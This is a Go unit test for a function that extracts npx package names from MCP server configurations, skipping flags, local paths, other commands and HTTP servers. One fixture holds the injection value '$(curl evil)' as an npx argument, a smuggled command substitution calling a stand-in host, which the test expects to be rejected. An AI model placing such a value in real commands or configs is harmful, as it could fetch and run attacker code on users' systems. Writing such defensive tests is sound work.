package mcp

import (
	"slices"
	"testing"

	"github.com/paddockhq/paddock/internal/config"
)

// TestNPXPackages: the package of each stdio server run with npx, in name order, flags
// skipped; paths, URLs and other commands are not packages to install.
func TestNPXPackages(t *testing.T) {
	got := NPXPackages(map[string]config.MCPServer{
		"b-fs":    {Transport: "stdio", Command: "npx", Args: []string{"-y", "@modelcontextprotocol/server-filesystem@2025.1.1", "/workspace"}},
		"a-git":   {Transport: "stdio", Command: "/usr/bin/npx", Args: []string{"--yes", "mcp-git"}},
		"c-local": {Transport: "stdio", Command: "npx", Args: []string{"./local-server.js"}},
		"d-py":    {Transport: "stdio", Command: "uvx", Args: []string{"mcp-server-time"}},
		"e-http":  {Transport: "http", URL: "http://127.0.0.1:9000/mcp"},
		"f-shell": {Transport: "stdio", Command: "npx", Args: []string{"-y", "$(curl evil)"}},
	})
	if want := []string{"mcp-git", "@modelcontextprotocol/server-filesystem@2025.1.1"}; !slices.Equal(got, want) {
		t.Errorf("NPXPackages = %q, want %q", got, want)
	}
}
